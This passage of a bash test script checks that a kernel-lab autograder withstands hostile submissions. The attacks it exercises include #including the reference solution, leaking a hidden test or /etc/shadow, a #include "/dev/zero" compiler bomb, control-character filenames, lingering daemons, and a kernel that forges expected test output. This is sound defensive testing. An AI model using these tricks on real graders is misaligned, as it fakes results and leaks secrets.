    pass "attacks 1-3: 4 submissions graded in one batch (${sel_a[*]}) in ${secs}s"
else
    fail "attacks 1-3: batch status $status; see $work/a.out, $work/a.csv"
fi
h_a=$(honest "${sel_a[@]}")
row_score() { json csv "$1" | awk -F'\t' -v n="$2" '$1 == n { print $2 "/" $3 }'; }

sc=$(json score "$work/snap/a-include.json" 2>/dev/null)
if [ "$sc" = "$h_a" ]; then
    pass "include-solution: $sc, the skeleton's score in ${sel_a[*]}: no copy of the reference reached by #include"
else
    js_out=$(json visible "$work/snap/a-include.json" 2>/dev/null | grep -m 1 -o -E '(generated|reference|lab4-ref)/kernel/[a-z]*\.c' )
    if [ -z "$sc" ]; then
        fail "include-solution: no results.json (CSV row $(row_score "$work/a.csv" include)); see $work/a.out"
    else
        fail "include-solution: scores $sc, the skeleton $h_a: the reference was #included${js_out:+ ($js_out)}"
    fi
fi

for n in host-pass host-leak; do
    sc=$(json score "$work/snap/a-$n.json" 2>/dev/null)
    fu=$(json tests "$work/snap/a-$n.json" 2>/dev/null | awk -F'\t' '$1 == "frames_unit" { print $3 "/" $4 }')
    if [ -z "$sc" ]; then
        fail "$n: no results.json; see $work/a.out"
    elif [ "$sc" = "$h_a" ] && [ "${fu%/*}" = "$(honest frames_unit)" ]; then
        pass "$n: frames_unit ${fu:-?} and $sc in all, as the skeleton"
    else
        fail "$n: frames_unit ${fu:-?}, $sc in all; the skeleton $(honest frames_unit) and $h_a$([ $n = host-pass ] && echo ': the fake TAP lines of a constructor were believed')"
    fi
    leaked=$( { cat "$work/snap/a-$n.txt" 2>/dev/null; json strings "$work/snap/a-$n.json" 2>/dev/null; } | leaked_secrets)
    if [ -z "$leaked" ]; then
        pass "$n: nothing of tests.spec, g_walk.c, the reference's vm.c or /etc/shadow in its report or results.json"
    else
        fail "$n: its report or results.json shows lines of: $leaked"
    fi
done

# 3: what a student sees of the incbin attack's results.json.
vis=$work/a-incbin.visible
json visible "$work/snap/a-incbin.json" > "$vis" 2>/dev/null
nw=$(grep -c -F -f "$walk_secret" "$vis")
if [ -s "$work/snap/a-incbin.json" ] && [ "$nw" -eq 0 ]; then
    pass "incbin-hidden: no line of the hidden g_walk.c ($(wc -l < "$walk_secret") checked) in the student-visible outputs of results.json (score $(json score "$work/snap/a-incbin.json"))"
else
    fail "incbin-hidden: $nw lines of the hidden g_walk.c in student-visible results.json output, e.g. '$(grep -m 1 -F -f "$walk_secret" "$vis" | cut -c1-90)'"
fi
# The hidden test's own log (the tail of walk's log, as its output in
# results.json quotes it: the lines naming g_walk) must not show in a
# visible test's output either, nor any trace of g_walk having run (its
# lines, the kernel's about it). (The attack's own source names g_walk.c:
# a build error quoting it is its own text, not counted.)
json hidden "$work/snap/a-incbin.json" 2>/dev/null |
    awk '/last lines of [^ ]*walk[^ ]*\.log/ { t = 1; next } t && /^ *\| / { sub(/^ *\| /, ""); print; next } { t = 0 }' |
    grep 'g_walk' | trim | awk 'length >= 12' | sort -u > "$work/walk-tail.lines"
nt=$(grep -c -F -f "$work/walk-tail.lines" "$vis" 2>/dev/null)
ran_re='(^|[^_a-z])g_walk: |application g_walk[ ,]'
gw=$(grep -c -E "$ran_re" "$vis")
if [ "${nt:-0}" -eq 0 ] && [ "$gw" -eq 0 ]; then
    pass "incbin-hidden: none of the $(wc -l < "$work/walk-tail.lines") lines of the hidden test's log tail that name g_walk, and no trace of g_walk running, in a visible output"
else
    fail "incbin-hidden: visible outputs hold ${nt:-0} lines of the hidden test's log tail, $gw traces of g_walk ('g_walk: ', 'application g_walk'), e.g. '$(grep -m 1 -E "$ran_re" "$vis" | cut -c1-90)'"
fi

# ---- 4. the compiler bomb --------------------------------------------------------------
bomb_cap=${HOSTILE_BOMB_VMEM_KB:-4194304}
t0=$SECONDS
out=$( (ulimit -v "$bomb_cap" 2>/dev/null
        exec "$grade" "${isoargs[@]}" --ref "$ref" --out "$work_abs/runs" --name hostile-bomb \
             --submission "$work/bomb" --json "$work_abs/bomb.json" --test frames) 2>&1); status=$?
secs=$((SECONDS - t0))
printf '%s\n' "$out" > "$work/bomb.out"
bs=$(score_of "$out")
if [ $status -eq 1 ] && [ "$secs" -le 60 ] && [[ $bs == 0/* ]] && [ "$(json score "$work/bomb.json" 2>/dev/null)" = 0 ]; then
    pass "compiler bomb (#include \"/dev/zero\"): graded in ${secs}s, $bs, exit status 1"
else
    fail "compiler bomb: status $status after ${secs}s, score '$bs'; see $work/bomb.out"
fi
if grep -q -i 'memory limit' <<< "$out"; then
    pass "compiler bomb: the report says '$(printf '%s\n' "$out" | grep -m 1 -i -o '.\{0,40\}memory limit.\{0,30\}')'"
else
    fail "compiler bomb: the report does not say 'memory limit' (it says '$(printf '%s\n' "$out" | grep -m 1 -i -e 'memory' -e 'build failed' | cut -c1-100)'; here under ulimit -v $bomb_cap KiB)"
fi

if [ -z "$quick" ]; then
# ---- 7. Gradescope: attacks 1 and 2 through run_autograder ----------------------------
zip=build/gradescope/autograder.zip
# (The grader is the one given, built from the same sources: run_autograder
# builds its own only when it has none newer than them; test-gradescope
# checks that build.)
if make --no-print-directory -s gradescope > "$work/make-gradescope.log" 2>&1 && [ -s "$zip" ] &&
   mkdir -p "$agsrc" && unzip -q "$zip" -d "$agsrc" && mkdir -p "$agsrc/bin" && cp "$grade" "$agsrc/bin/grade"; then
    # gs NAME ATTACKDIR TESTS...: run_autograder on the attack's five files.
    gs() {
        local name=$1 sub=$2; shift 2
        local r=$work_abs/ag-$name t extra=
        for t in "$@"; do extra="$extra --test $t"; done
        mkdir -p "$r/submission" "$r/results"
        ln -sfn "$agsrc" "$r/source"
        cp "$sub"/kernel/*.c "$r/submission/"
        local t0=$SECONDS
        env AUTOGRADER_ROOT="$r" GRADE_EXTRA_ARGS="${extra# }${isoargs[*]:+ ${isoargs[*]}}" \
            "$agsrc/run_autograder" > "$work/gs-$name.out" 2>&1 < /dev/null; status=$?
        secs=$((SECONDS - t0))
        daemon_run=$SECONDS
        snap "$r/results/results.json" "gs-$name.json"
        json_files+=("$work/snap/gs-$name.json")
        gj=$work/snap/gs-$name.json
        local valid=yes
        json valid "$gj" 2>/dev/null || valid=no
        [ -x "$agsrc/bin/jsoncheck" ] && ! "$agsrc/bin/jsoncheck" "$gj" > /dev/null 2>&1 && valid=no
        sc=$(json score "$gj" 2>/dev/null)
        local h; h=$(honest "$@")
        if [ $status -eq 0 ] && [ $valid = yes ] && [ "$sc" = "$h" ]; then
            pass "gradescope $name ($*): valid results.json, score $sc as the skeleton (${secs}s)"
        else
            fail "gradescope $name ($*): status $status, valid $valid, score '${sc:-none}', the skeleton $h; see $work/gs-$name.out"
        fi
    }
    gs include "$A/include" frames_unit frames
    for n in host-pass host-leak; do
        gs "$n" "$A/$n" frames_unit
        leaked=$(json strings "$work/snap/gs-$n.json" 2>/dev/null | leaked_secrets)
        if [ -z "$leaked" ]; then
            pass "gradescope $n: no line of the secrets in results.json"
        else
            fail "gradescope $n: results.json shows lines of: $leaked"
        fi
        check_daemons "gradescope $n"
    done
else
    fail "gradescope: could not make or unpack $zip; see $work/make-gradescope.log"
fi

# ---- 5. names in a batch ---------------------------------------------------------------
B=$work/names
rlo=$(printf '\342\200\256')
ctl=$(printf '\001')
names=(alice alice.txt alice.json batch "b${rlo}ob" "ctl${ctl}x" x)
for n in "${names[@]}"; do five "$ref" "$B/$n"; done
five "$ref" "$work/xsrc"
tar czf "$B/x.tar.gz" -C "$work/xsrc" kernel
nsubs=$(( ${#names[@]} + 1 ))
outb=$work_abs/out-names
sel_n=(frames walk)
t0=$SECONDS
"$grade" "${isoargs[@]}" --ref "$ref" --batch "$B" --csv "$work/names.csv" --out "$outb" \
    --parallel 2 -j 1 --test frames --test walk > "$work/names.out" 2>&1; status=$?
secs=$((SECONDS - t0))
json csv "$work/names.csv" > "$work/names.rows" 2>/dev/null
# Full marks on the tests graded: the sum of their points.
total=$(awk -v sel=" ${sel_n[*]} " '/^test /{t=$2} $1 == "points" && index(sel, " " t " ") {n += $2}
                                  END{print n}' grading/lab4/tests.spec)
nrows=$(wc -l < "$work/names.rows")
full=$(awk -F'\t' -v t="$total" '$2 == t && $3 == t && $4 == "graded"' "$work/names.rows" | wc -l)
ndist=$(cut -f1 "$work/names.rows" | sort -u | wc -l)
if [ $status -eq 0 ] && [ "$nrows" -eq $nsubs ] && [ "$full" -eq $nsubs ] && [ "$ndist" -eq $nsubs ]; then
    pass "batch names: $nsubs submissions (alice, alice.txt, alice.json, batch, U+202E, ^A, x, x.tar.gz) graded on ${sel_n[*]} in ${secs}s: $nsubs distinct CSV rows, each $total/$total"
else
    fail "batch names: status $status, $nrows rows for $nsubs submissions, $full at $total/$total graded, $ndist distinct names: $(awk -F'\t' -v t="$total" '!($2 == t && $4 == "graded") { printf "%s: %s/%s %s (%s); ", $1, $2, $3, $4, $5 }' "$work/names.rows" | cat -v | cut -c1-200)"
fi
bad=; files=("$work/names.csv"); nrep=0; k=0
while IFS=$'\t' read -r n s m st msg; do
    k=$((k + 1))
    locate "$outb" "$n"
    if [ -f "$rep" ] && grep -q "^Score: $total/$total\$" "$rep" && [ "$(json score "$js" 2>/dev/null)" = "$total" ]; then
        nrep=$((nrep + 1))
    else
        bad="$bad $(printf '%s' "$n" | cat -v)"
    fi
    snap "$js" "names-$k.json"
    [ -f "$rep" ] && files+=("$rep")
    [ -f "$js" ] && { files+=("$js"); json_files+=("$js"); }
done < "$work/names.rows"
if [ "$nrep" -eq $nsubs ] && [ -z "$bad" ]; then
    pass "batch names: each row's own report and results.json, $total/$total in both"
else
    fail "batch names: $nrep of $nsubs rows with their own full-score report and results.json; not:$bad"
fi
while IFS= read -r f; do files+=("$f"); done < <(find "$outb" -maxdepth 2 -type f \( -name '*.txt' -o -name '*.json' \) 2>/dev/null)
dirty=
ctl_re='[\x00-\x08\x0b-\x1f\x7f]|\xe2\x80\xae'
mapfile -t files < <(printf '%s\n' "${files[@]}" | sort -u)
for f in "${files[@]}"; do
    clean=yes
    perl -ne 's/\r\n\z/\n/ if $ARGV =~ /\.csv\z/; exit 1 if /'"$ctl_re"'/' "$f" || clean=no
    if [[ $f == *.json ]]; then
        json strings "$f" 2>/dev/null | perl -ne 'exit 1 if /'"$ctl_re"'/' || clean=no
    fi
    [ $clean = yes ] || dirty="$dirty ${f#$top/}"
done
if [ -z "$dirty" ]; then
    pass "batch names: no U+202E and no control character (but tab, newline; CR before LF in the CSV) in the CSV, $(( ${#files[@]} - 1 )) reports and results.json files"
else
    fail "batch names: U+202E or control characters in:$(printf '%s' "$dirty" | cat -v | cut -c1-300)"
fi

# ---- 6. a single submission named batch ---------------------------------------------------
five "$ref" "$work/single/batch"
if [ -e "$bdir" ]; then saved_batch=build/grade/.batch-saved-$tag; mv "$bdir" "$saved_batch"; else saved_batch=none; fi
mkdir -p "$bdir"
keep=$bdir/grade-batch-keep-$tag
echo "an earlier batch's output" > "$keep"
t0=$SECONDS
out=$(GRADE_ROOT=$top "$grade" "${isoargs[@]}" --submission "$work/single/batch" --test frames_unit 2>&1); status=$?
secs=$((SECONDS - t0))
printf '%s\n' "$out" > "$work/single-batch.out"
if [ -f "$keep" ]; then
    pass "a submission named batch, graded alone (status $status, ${secs}s): the batch output $bdir/ is kept"
else
    fail "a submission named batch, graded alone (status $status): $bdir/ and its files are gone ($(sed -n 's/.*logs in \(.*\)$/logs in \1/p' "$work/single-batch.out" | head -n 1))"
fi
restore_batch
fi   # not quick

# ---- 8. the hidden test in what a student sees ---------------------------------------------
n8=0; n8bad=0; bad_line=; bad_name=
for j in "${json_files[@]}"; do
    [ -s "$j" ] || continue
    set -- $(json scoreline "$j" 2>/dev/null)
    [ $# -ge 3 ] && [ "$1" -gt 0 ] 2>/dev/null || continue       # no hidden test in this run
    n8=$((n8 + 1))
    nh=$1 vs=$2 vm=$3; shift 3
    b=
    while [ $# -ge 2 ]; do
        [ "$1" = "$vs" ] && [ "$2" = "$vm" ] || b="${j##*/}: 'Score: $1/$2', the visible tests $vs/$vm"
        shift 2
    done
    if [ -n "$b" ]; then
        n8bad=$((n8bad + 1))
        [ $n8bad -gt 3 ] || bad_line="$bad_line $b;"
    fi
    # (the incbin attack's own source names g_walk.c: a build error may quote it)
    [[ ${j##*/} == *incbin* ]] || ! json top "$j" | grep -q -i -E 'walk([^_]|$)' || bad_name="$bad_name ${j##*/}"
done
if [ $n8 -eq 0 ]; then
    fail "hidden test: no results.json with a hidden test to look at"
else
    if [ -z "$bad_line" ]; then
        pass "hidden test: in $n8 results.json files, the top-level 'Score:' line counts only the tests a student sees (or is absent)"
    else
        fail "hidden test: in $n8bad of $n8 results.json files the top-level score line counts the hidden test, e.g.$bad_line"
    fi
    if [ -z "$bad_name" ]; then
        pass "hidden test: in $n8 results.json files (but the incbin attack's, whose source names it), the top-level output never names walk"
    else
        fail "hidden test: the top-level output names walk in:$bad_name"
    fi
fi

# ---- 9. a kernel that forges public tests' lines ---------------------------------------
# The reference but for mmap, which refuses every call, so that nearly every
# program fails: that kernel ("nomap") gets its honest score on four public
# tests (frames, mmap, copy, timeinfo: exercises 1, 5, 6, 7) and their
# hidden twins. The forger is the same kernel whose syscall.c
# (grading/tests/forge.c, with the shipped seedgen.h) reads each of those
# four programs' encoded token and seed from its ELF image at its first
# system call, prints the lines the public test expects and ends it with
# exit code 0. Public lines can be computed from what students have: the
# four public tests pass. Their hidden twins must fail, the report call
# each suspicious, the score (twins gate) be nomap's exactly, and nothing
# of that (or of the twins) reach what a student sees of results.json.
if [ -z "$quick" ]; then
    forge_pub="frames mmap copy timeinfo"
    forge_tests=(); for t in $forge_pub; do forge_tests+=(--test "$t" --test "${t}_h"); done
    mkdir -p "$work/forge/kernel" "$work/nomap/kernel"
    cp "$ref"/kernel/{frame,vm,mm,elf}.c "$work/forge/kernel/"
    cp "$ref"/kernel/{frame,vm,mm,elf}.c "$work/nomap/kernel/"
    for k in nomap forge; do
        FORGE=$([ $k = forge ] && echo 1) perl -0pe '
          BEGIN { local $/; open my $f, "<", "grading/lab4/progs/seedgen.h" or die; $sg = <$f>;
                  open my $c, "<", "grading/common/seedcore.h" or die; my $core = <$c>;
                  $sg =~ s/#include "seedcore.h"[^\n]*\n/$core/ or die "no seedcore.h in seedgen.h";
                  open my $g, "<", "grading/tests/forge.c" or die; $fg = <$g>; }
          s/(\nsys_mmap\(uint64 start, uint64 len, uint64 prot\)\n\{\n).*?\n\}\n/$1    (void)start; (void)len; (void)prot;\n    return -1;\n}\n/s or die "no sys_mmap";
          if ($ENV{FORGE}) {
              s/(extern struct fdt_info machine;[^\n]*\n)/$1\n$sg\n$fg\n/ or die "no includes";
              s/(\nsyscall\(uint64 num, uint64 \*a\)\n\{\n)/$1    if (fg_forge())\n        sys_exit(0);\n/ or die "no syscall";
          }
        ' "$ref/kernel/syscall.c" > "$work/$k/kernel/syscall.c" 2> "$work/$k.perl" ||
            fail "forger: could not make the $k kernel's syscall.c ($(cat "$work/$k.perl"))"
    done
    fscore() { printf '%s\n' "$out" | sed -n 's/^Score: \([0-9]*\/[0-9]*\).*$/\1/p' | tail -n 1; }
    run_grade nomap "$work/nomap" "${forge_tests[@]}"
    honest_forge=$(fscore)
    run_grade forge "$work/forge" "${forge_tests[@]}"
    json_files+=("$work_abs/forge.json")
    vis=$(json visible "$work_abs/forge.json" 2>/dev/null)
    bad=
    for t in $forge_pub; do
        printf '%s\n' "$out" | grep -A1 "^== Test $t ==\$" | grep -q '^OK' || bad+=" $t:not-forged"
        printf '%s\n' "$out" | grep -A1 "^== Test ${t}_h ==\$" | grep -q '^FAIL' || bad+=" ${t}_h:passes"
        grep -q "^grade: suspicious: $t passes, but its hidden twin ${t}_h fails .*; so neither counts (twins gate)\$" <<< "$out" ||
            bad+=" $t:not-suspicious"
    done
    if [ -z "$bad" ] && [ -n "$honest_forge" ] && [ "$(fscore)" = "$honest_forge" ] &&
       [ "$(printf '%s\n' "$out" | grep -c '^grade: suspicious: ')" = 4 ] &&
       ! grep -q -i -e suspicious -e _h <<< "$vis"; then
        pass "forger: a kernel without mmap that prints the lines of frames, mmap, copy and timeinfo from their images' tokens and seeds: the four public tests pass, their hidden twins fail, each reported suspicious, score $(fscore) = the same kernel's without forging; nothing of it in what a student sees"
    else
        fail "forger: score $(fscore) (without forging: $honest_forge), wrong:${bad:- none}; see $work/forge.out, $work/nomap.out, $work_abs/forge.json"
    fi
    # The same in a batch and through Gradescope, on one pair (what these
    # check is where suspicious is said): mmap and its twin, whose honest
    # score is nomap's in them.
    pair=(--test mmap --test mmap_h)
    honest_pair=$(json tests "$work_abs/nomap.json" 2>/dev/null |
                  awk -F'\t' '$1 == "mmap" || $1 == "mmap_h" { s += $3; m += $4; n++ } END { if (n == 2) print s "/" m }')
    # The batch: the CSV's suspicious column names mmap, its score nomap's.
    rm -rf "$work/forge-batch" && mkdir -p "$work/forge-batch" && cp -r "$work/forge" "$work/forge-batch/eve"
    "$grade" "${isoargs[@]}" --ref "$ref" --batch "$work/forge-batch" --csv "$work/forge.csv" \
        --out "$work_abs/out-forge" "${pair[@]}" > "$work/forge-batch.out" 2>&1
    row=$(grep '^eve,' "$work/forge.csv" 2>/dev/null | tr -d '\r')
    if [ -n "$honest_pair" ] && head -n 1 "$work/forge.csv" 2>/dev/null | grep -q ',suspicious,seconds,' &&
       [[ $row == "eve,${honest_pair%/*},${honest_pair#*/},graded,"*",mmap,"* ]]; then
        pass "forger (batch, on mmap and mmap_h): its CSV row names mmap as suspicious, score ${honest_pair%/*}: ${row%%,graded,*}"
    else
        fail "forger (batch): not the CSV row wanted (score ${honest_pair:-?}, suspicious mmap): '$row'; see $work/forge-batch.out"
    fi
    # And through Gradescope: the report (the instructor's stdout) says so, results.json's visible parts do not.
    if [ -d "$agsrc" ]; then
        r=$work_abs/ag-forge
        rm -rf "$r" && mkdir -p "$r/submission" "$r/results" && ln -sfn "$agsrc" "$r/source"
        cp "$work/forge"/kernel/*.c "$r/submission/"
        env AUTOGRADER_ROOT="$r" GRADE_EXTRA_ARGS="${pair[*]}${isoargs[*]:+ ${isoargs[*]}}" \
            "$agsrc/run_autograder" > "$work/gs-forge.out" 2>&1 < /dev/null
        gj=$r/results/results.json
        json_files+=("$gj")
        vis=$(json visible "$gj" 2>/dev/null)
        if json valid "$gj" 2>/dev/null && grep -q '^grade: suspicious: mmap passes' "$work/gs-forge.out" &&
           [ -n "$honest_pair" ] && grep -q "\"score\": ${honest_pair%/*}," "$gj" &&
           grep -q '"stdout_visibility": "hidden"' "$gj" && ! grep -q -i -e suspicious -e _h <<< "$vis"; then
            pass "forger (gradescope, on mmap and mmap_h): suspicious in the report (stdout, hidden from students), not in what a student sees of results.json"
        else
            fail "forger (gradescope): see $work/gs-forge.out, $gj"
        fi
    fi
fi

# ---- at the end: markers, overwritten results, daemons -------------------------------------
# No grader runs from here on: the project's modes go back, and whoever waits for that is told.
restore_private
[ -z "${HOSTILE_GRADED:-}" ] || : > "$HOSTILE_GRADED"
if [ -n "$daemon_run" ]; then
    w=$((daemon_run + 23 - SECONDS))
    [ $w -gt 0 ] && sleep $w
fi
# A marker inside the run directory of the very submission that wrote it
# (the sandbox's own HOME or /tmp, kept with the run's logs) is contained;
# anywhere else it escaped.
found= contained=0
while IFS= read -r f; do
    [ -n "$f" ] || continue
    sub=$(basename "$f" | sed -n "s/^$mark-\(host-[a-z]*\)-.*/\1/p")
    if [ -n "$sub" ] && [[ $f == "$work_abs"/out-*/"$sub"/* || $f == "$work_abs"/runs/*"$sub"*/* ]]; then
        contained=$((contained + 1)); rm -f "$f"
    else
        found="$found$f"$'\n'
    fi
done < <(find_markers)
found=${found%$'\n'}
if [ -z "$found" ]; then
    pass "no marker file of the attacks (*$mark-*) in ${marker_dirs[*]}, \$HOME or /home$([ $contained -gt 0 ] && echo " (but $contained in the writing submission's own run directory, its sandbox's HOME or /tmp)")"
else
    fail "$(printf '%s\n' "$found" | wc -l) marker files left by the attacks: $(printf '%s\n' "$found" |
          sed 's|/hostile-[0-9-]*-\([a-z0-9-]*\)-[0-9]*$| \1|' | sort | uniq -c |
          awk '{ printf "%s%s: %s x%d", (NR > 1 ? "; " : ""), $2, $3, $1 }')"
    printf '%s\n' "$found" | while IFS= read -r f; do rm -f "$f"; done
fi
changed=
for s in "${snaps[@]}"; do
    live=${s%%|*} copy=${s#*|}
    [ ! -e "$live" ] || cmp -s "$live" "$copy" || changed="$changed ${live#$top/}"
done
owned_in=$( { find "$work_abs" -path '*/tree' -prune -o -type f \( -name '*.json' -o -name '*.txt' -o -name '*.csv' -o -name result \) -print
              ls -d "$work_abs"/ag-*/results/results.json; } 2>/dev/null | grep -v "^$work_abs/snap/" |
            sort -u | while IFS= read -r f; do grep -l -F -- "$owned" "$f"; done 2>/dev/null |
            sed "s|^$top/||" | tr '\n' ' ')
if [ -z "$changed" ] && [ -z "$owned_in" ]; then
    pass "after the daemons' time: none of ${#snaps[@]} reports and results.json files changed, none holds what they write"
else
    fail "overwritten after grading:$(echo "${changed:- none changed}" | cut -c1-250); holding what the daemons write: $(echo "${owned_in:-none}" | cut -c1-250)"
fi
left=$(daemons)
if [ -z "$left" ]; then
    pass "no process of the attacks alive at the end"
else
    fail "processes of the attacks alive at the end (killed now): pid $left"
    kill_daemons
fi

# The run trees take ~10 MB each: keep them only to look at a failure.
[ $failed -ne 0 ] || rm -rf "$work_abs/runs" "$work_abs/out-a" "$work_abs/out-names"
echo "hostile: $((SECONDS - t_start))s"
exit $failed
